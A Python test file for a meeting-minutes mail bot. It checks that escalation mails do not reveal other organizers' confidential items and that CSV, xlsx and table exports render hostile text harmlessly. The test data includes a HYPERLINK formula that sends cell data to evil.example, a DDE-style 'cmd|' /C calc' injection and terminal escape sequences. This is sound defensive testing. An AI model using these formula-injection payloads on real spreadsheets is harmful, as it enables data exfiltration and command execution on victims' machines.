"""What the bot shows to whom (issue 16, points 5-7): an escalation copies only organizers of the meetings it lists;
exports keep text as text (no formulas) and survive control characters."""
from datetime import timedelta

from conftest import MINUTES, mail, text_of

SECRET_TASK = "核对并购尽调报告"


def test_an_escalation_shows_each_organizer_only_the_items_of_their_own_meetings(bot, now):
    """赵敏 makes up minutes giving 李强 an item: when 李强 is escalated, no organizer is copied on a mail that shows
    the other's meeting (李强's one mail of the day lists both, copying only his manager 周华, who may see both);
    赵敏 never sees the item of 陈明's confidential meeting."""
    bot.drop(mail(MINUTES.replace("完成样机固件升级", SECRET_TASK), message_id="<secret@xinghe.cn>"))
    bot.drop(mail(MINUTES.replace("产品周会", "随便聊聊").replace("完成样机固件升级", "整理杂物"), subject="会议纪要 杂事",
                  sender="赵敏 <zhaomin@xinghe.cn>", message_id="<bait@xinghe.cn>"))
    bot.tick(now)
    for day in range(1, 15):
        bot.tick(now.replace(hour=10, minute=30) + timedelta(days=day))
    escalations = [m for m in bot.sent() if "liqiang@xinghe.cn" in str(m["To"]) and m["Cc"]
                   and "升级" in m["Subject"]]
    assert escalations, [m["Subject"] for m in bot.sent()]
    to_zhaomin = [m for m in bot.sent() if "zhaomin@xinghe.cn" in str(m["To"]) + str(m["Cc"] or "")]
    assert any("整理杂物" in text_of(m) for m in to_zhaomin)
    assert not any(SECRET_TASK in text_of(m) or SECRET_TASK in m.get_body(("html",)).get_content() for m in to_zhaomin)
    for escalation in escalations:                   # an organizer is copied only on their own meeting's items
        assert "chenming@xinghe.cn" not in str(escalation["Cc"]) or "整理杂物" not in text_of(escalation)
        assert "zhaomin@xinghe.cn" not in str(escalation["Cc"]) or SECRET_TASK not in text_of(escalation)
    assert any("zhouhua@xinghe.cn" in str(m["Cc"]) and SECRET_TASK in text_of(m) and "整理杂物" in text_of(m)
               for m in escalations)


# --- exports: text stays text (points 6 and 7) ------------------------------------------------------------------------
FORMULA = '=HYPERLINK("http://evil.example/?d="&B3,"点我")'


def hostile_items(bot, now):
    """Minutes whose task, title and organizer name came from an attacker's mail."""
    bot.drop(mail(MINUTES))
    bot.tick(now)
    db = bot.app.store.db
    with bot.app.store.atomic():
        db.execute("UPDATE items SET task = ? WHERE number = 1", [FORMULA])
        db.execute("UPDATE items SET task = ? WHERE number = 2", ["升级\x1b[2J\x1b[31m固件\x07\x00"])
        db.execute("UPDATE meetings SET title = ?, organizer_name = ?", ["+cmd|' /C calc'!A0", "@SUM(1+1)*cmd"])


def test_xlsx_stores_texts_from_mail_as_text_never_as_formulas(bot, now, tmp_path):
    import openpyxl
    from minutebot.cli import main
    hostile_items(bot, now)
    path = tmp_path / "items.xlsx"
    assert main(["--config", str(bot.root / "minutebot.toml"), "items", "--status", "all", "--format", "xlsx",
                 "-o", str(path)]) == 0
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert FORMULA in texts and "+cmd|' /C calc'!A0（#1，第1项）" in texts
    assert any(t.startswith("升级\ufffd[2J\ufffd[31m固件") for t in texts)         # the ESC no longer fails the export


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(bot, now, tmp_path, capsys):
    import csv
    import io
    from minutebot.cli import main
    hostile_items(bot, now)
    assert main(["--config", str(bot.root / "minutebot.toml"), "items", "--status", "all", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows[0]["task"] == "'" + FORMULA and rows[0]["meeting_title"] == "'+cmd|' /C calc'!A0"
    assert rows[2]["task"] == "确认物料报价"                                  # ordinary text untouched
    assert not [v for row in rows for v in row.values() if v and v[0] in "=+-@\t\r"]


def test_the_table_shows_control_characters_instead_of_obeying_them(bot, now, capsys):
    from minutebot.cli import main
    hostile_items(bot, now)
    assert main(["--config", str(bot.root / "minutebot.toml"), "items", "--status", "all"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\x00" not in out
    assert "升级\\x1b[2J\\x1b[31m固件" in out
